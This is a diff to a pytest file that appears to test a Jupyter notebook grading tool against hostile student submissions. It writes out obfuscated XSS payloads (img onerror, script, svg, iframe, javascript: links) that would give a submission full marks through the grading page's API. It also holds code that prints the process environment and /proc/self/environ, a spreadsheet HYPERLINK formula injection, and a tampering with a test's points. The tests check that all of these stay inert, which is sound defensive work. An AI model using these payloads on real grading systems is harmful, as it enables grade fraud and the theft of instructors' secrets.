@@ -6,11 +6,18 @@ formgrader``) with its own Jupyter folders, token-less on 127.0.0.1 at a port
 it picks itself, and Debian's chromium.  Every request outside 127.0.0.1 is
 blocked and recorded: none may happen, and no console error either (tests/serve.py:Tab).  The grade command runs for real while the page is
 open (issue 17).
+
+The class also holds hostile students (issue 22): ``mallory`` puts script into her Markdown answer and
+her outputs, which must stay inert in formgrader and in her feedback; ``envy`` prints the environment
+of a grader whose shell holds secrets; ``excel`` names a cell with a spreadsheet formula; ``greedy``
+raises a test cell's points; ``chatty`` prints a million short lines.
 """
 
 from __future__ import annotations
 
+import base64
 import csv
+import json
 import os
 import signal
 import sqlite3
@@ -21,7 +28,7 @@ from pathlib import Path
 
 import pytest
 
-from grading_helpers import ROOT, comments, course_copy, scores
+from grading_helpers import ROOT, comments, course_copy, flags, scores
 from jupyterlab_server import isolated_env, stop, url_when_serving
 from serve import Tab
 
@@ -33,6 +40,53 @@ pytestmark = pytest.mark.slow
 NB = "02-ring-allreduce"
 ANSWER = "带宽减半以后,每 rank 的发送量仍是 $2(R-1)/R \\times G$,与链路无关;下界是发送量除以带宽,所以加倍。"
 SNEAKY = "import builtins\nbuiltins.abs = lambda x: 0"
+SECRETS = {"AWS_SECRET_ACCESS_KEY": "pb-test-secret-aws-0d1e", "JUPYTERHUB_API_TOKEN": "pb-test-secret-hub-77aa"}
+FORMULA = '=HYPERLINK("http://example.invalid/?leak=1","点我")'
+
+
+def _run(tag: str) -> str:
+    """JavaScript (as ``eval(atob(...))``, quote-free) that records ``tag`` and, on a formgrader page, makes the
+    attack of issue 22: full marks and extra credit on every cell of the open submission, through the page's API."""
+    js = (f"(window.PWNED = window.PWNED || []).push({tag!r});"
+          "var t = setInterval(function () { if (window.formgrader && formgrader.grades && formgrader.grades.loaded) {"
+          " clearInterval(t); formgrader.grades.each(function (m) {"
+          " m.save({manual_score: m.get('max_score'), extra_credit: 5}); }); } }, 50);")
+    return f"eval(atob('{base64.b64encode(js.encode()).decode()}'))"
+
+
+ATTACK_MD = (ANSWER + "\n\n" + f'<img src=x onerror="{_run("md-img")}"> <script>{_run("md-script")}</script>\n'
+             f'<svg><animate onbegin="{_run("md-svg")}" attributeName="x" dur="1s"/></svg>\n'
+             f'<details open ontoggle="{_run("md-details")}">细节</details>\n'
+             f'<iframe srcdoc="<script>parent.{_run("md-iframe")}</script>"></iframe>\n\n'
+             f'[点这里](javascript:{_run("md-link")}) <a href="/api/contents">内容</a>\n')
+OUT_HTML = f'<b>粗体输出</b><img src=x onerror="{_run("out-html")}">'
+OUT_MD = f'<img src=x onerror="{_run("out-md")}">'
+OUT_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_run("out-svg")}"><rect width="9" height="9"/></svg>'
+ATTACK_CODE = "\n".join(["from IPython.display import HTML, SVG, Javascript, Markdown, display",
+                         f"display(HTML({OUT_HTML!r}))", f"display(Javascript({_run('out-js')!r}))",
+                         f"display(Markdown({OUT_MD!r}))", f"display(SVG({OUT_SVG!r}))"])
+
+
+def _hostile_students(course: Course, folder: Path) -> None:
+    """mallory, envy, excel, greedy and chatty (see the module docstring)."""
+    mallory = classroom.submission(course, "lesson", {"explain_ex1": ATTACK_MD})
+    classroom.insert_code(mallory[NB], "answer_ex2", ATTACK_CODE)
+    classroom.write_student(folder, "mallory", "lesson", mallory)
+    envy = classroom.submission(course, "lesson")
+    classroom.insert_code(envy[NB], "answer_ex2", "import os\nprint(dict(os.environ))\nprint(open('/proc/self/environ', 'rb').read())")
+    classroom.write_student(folder, "envy", "lesson", envy)
+    excel = classroom.submission(course, "lesson")
+    classroom.insert_code(excel[NB], "answer_ex2", "import os\nos.listdir('.')")
+    mine = next(c for c in excel[NB]["cells"] if c["source"] == "import os\nos.listdir('.')")
+    mine["metadata"]["nbgrader"] = {"grade": False, "solution": False, "locked": False, "grade_id": FORMULA,
+                                    "schema_version": 3}
+    classroom.write_student(folder, "excel", "lesson", excel)
+    greedy = classroom.submission(course, "lesson")
+    classroom.cell(greedy[NB], "test_ex1_send")["metadata"]["nbgrader"]["points"] = 100
+    classroom.write_student(folder, "greedy", "lesson", greedy)
+    chatty = classroom.submission(course, "lesson")
+    classroom.insert_code(chatty[NB], "answer_ex2", "print('x\\n' * 10**6, end='')")
+    classroom.write_student(folder, "chatty", "lesson", chatty)
 
 
 def _env(tmp: Path) -> dict:
@@ -47,6 +101,24 @@ def _submission_id(db: Path, student: str) -> str:
                       (student, NB)).fetchone()
     con.close()
     return row[0]
+
+
+def _grade_rows(db: Path, student: str) -> list:
+    """Every (cell, auto score, manual score, extra credit) of a student in the gradebook."""
+    con = sqlite3.connect(str(db))
+    rows = con.execute("SELECT bc.name, g.auto_score, g.manual_score, g.extra_credit FROM grade g "
+                       "JOIN submitted_notebook sn ON g.notebook_id = sn.id JOIN submitted_assignment sa "
+                       "ON sn.assignment_id = sa.id JOIN base_cell bc ON g.cell_id = bc.id WHERE sa.student_id = ?",
+                       (student,)).fetchall()
+    con.close()
+    return sorted(rows)
+
+
+# What of a submission could run, read in the page: script-like elements, event attributes, javascript: URLs.
+LIVE = """sel => { const root = document.querySelector(sel); const all = [...root.querySelectorAll('*')];
+  return {elements: root.querySelectorAll('script, iframe, svg, object, embed, form').length,
+          handlers: all.filter(e => [...e.attributes].some(a => a.name.toLowerCase().startsWith('on'))).length,
+          urls: all.filter(e => ['href', 'src', 'action'].some(n => /^\\s*javascript:/i.test(e.getAttribute(n) || ''))).length}; }"""
 
 
 def _csv_scores(course: Course) -> dict:
@@ -66,8 +138,15 @@ def lab(tmp_path_factory):
     sneaky = classroom.submission(course, "lesson", {"explain_ex1": ANSWER})
     classroom.insert_code(sneaky[NB], "answer_ex1", SNEAKY)
     classroom.write_student(folder, "s3", "lesson", sneaky)
-    summary = grade(folder, root=course.root, jobs=2, timeout=10, quiet=True)
-    assert summary["graded"] == ["s1", "s2", "s3"] and ("s3", NB) in summary["flagged"], summary
+    _hostile_students(course, folder)
+    os.environ.update(SECRETS)  # the grader's shell holds secrets (issue 22): no kernel may see them
+    try:
+        summary = grade(folder, root=course.root, jobs=2, timeout=10, quiet=True)
+    finally:
+        for name in SECRETS:
+            os.environ.pop(name)
+    assert set(summary["graded"]) == {"s1", "s2", "s3", "mallory", "envy", "excel", "greedy", "chatty"}, summary
+    assert ("s3", NB) in summary["flagged"], summary
     env = _env(tmp / "jupyter")
     log_path = tmp / "lab.log"
     with open(log_path, "wb") as log:
@@ -252,3 +331,78 @@ def test_feedback_renders_formulas_offline_from_disk(lab, page):
     page.goto(path.as_uri())
     page.wait_for_selector("mjx-container", timeout=20000)
     assert "测试单元" in page.inner_text("body")
+
+
+def test_student_script_stays_inert_in_formgrader(lab, page):
+    """Opened by a logged-in instructor, does mallory's page run none of her script (Markdown <img onerror>,
+    <script>, SVG, <details>, <iframe>, javascript: link; HTML, JS, Markdown and SVG outputs), send no write,
+    change no grade, and still show her words, her HTML output's text and her typeset formula?"""
+    course, _, url = lab
+    before = _grade_rows(course.gradebook, "mallory")
+    writes = []
+    page.on("request", lambda r: writes.append((r.method, r.url)) if r.method != "GET" else None)
+    _open(page, url, _submission_id(course.gradebook, "mallory"))
+    page.wait_for_selector(".nbgrader_cell:has(#explain_ex1) mjx-container", timeout=20000)  # her formula, typeset
+    page.wait_for_timeout(1500)  # a payload polls every 50 ms for the loaded grades, then saves
+    assert page.evaluate("() => window.PWNED === undefined"), page.evaluate("() => window.PWNED")
+    assert not writes and _grade_rows(course.gradebook, "mallory") == before
+    assert page.evaluate(LIVE, "#notebook") == {"elements": 0, "handlers": 0, "urls": 0}
+    assert "带宽减半以后" in page.inner_text("#notebook") and page.locator("#notebook b:has-text('粗体输出')").count() == 1
+
+
+def test_feedback_shows_student_script_inert(lab, page):
+    """Does mallory's feedback page, opened from disk, run none of her script and hold no script but MathJax?"""
+    course, _, _ = lab
+    page.goto((course.feedback / "s2" / "lesson" / f"{NB}.html").as_uri())
+    honest = page.evaluate("() => document.querySelectorAll('script').length")
+    page.goto((course.feedback / "mallory" / "lesson" / f"{NB}.html").as_uri())
+    page.wait_for_selector("mjx-container", timeout=20000)
+    page.wait_for_timeout(1000)
+    assert page.evaluate("() => window.PWNED === undefined"), page.evaluate("() => window.PWNED")
+    assert page.evaluate("() => document.querySelectorAll('script').length") == honest
+    assert page.evaluate(LIVE, "#notebook") == {"elements": 0, "handlers": 0, "urls": 0}
+    assert "粗体输出" in page.inner_text("#notebook")
+
+
+def test_no_grader_secret_reaches_a_kernel_or_the_feedback(lab):
+    """The grader's shell held AWS_SECRET_ACCESS_KEY and JUPYTERHUB_API_TOKEN: are they in envy's printed
+    environment, in her autograded notebook or her feedback?"""
+    course, _, _ = lab
+    for path in (course.autograded / "envy" / "lesson" / f"{NB}.ipynb", course.feedback / "envy" / "lesson" / f"{NB}.html"):
+        text = path.read_text(encoding="utf-8")
+        assert "C.UTF-8" in text and "JPY_PARENT_PID" in text, path  # the environment was printed: the clean one
+        assert not [k for k, v in SECRETS.items() if k in text or v in text], path
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_exports_are_safe_for_spreadsheets(lab):
+    """Is a student-chosen cell id like =HYPERLINK(...) written as text in integrity.csv, and does no cell of
+    either export start with = + - @ or a tab/CR unless it is a plain number?"""
+    course, _, _ = lab
+    with open(course.integrity_csv, encoding="utf-8", newline="") as fh:
+        rows = list(csv.reader(fh))
+    assert ["excel", "lesson", NB, "'" + FORMULA] in [r[:4] for r in rows], [r for r in rows if r[0] == "excel"]
+    for path in (course.grades_csv, course.integrity_csv):
+        with open(path, encoding="utf-8", newline="") as fh:
+            cells = [c for row in csv.reader(fh) for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(c)], path
+
+
+def test_raised_points_are_restored_and_reported(lab):
+    """greedy raised test_ex1_send to 100 points: does it still count 2, and is the change in the integrity report?"""
+    course, _, _ = lab
+    assert scores(course.gradebook)[("greedy", NB, "test_ex1_send")] == (2.0, 2.0)
+    assert ("greedy", NB, "test_ex1_send", "edited_points") in flags(course.gradebook)
+
+
+def test_a_million_short_lines_are_flagged_as_huge_output(lab):
+    """Is printing 10^6 one-character lines (cut to a few hundred by line count) flagged as huge output?"""
+    course, _, _ = lab
+    assert "huge_output" in {f[3] for f in flags(course.gradebook) if f[0] == "chatty"}
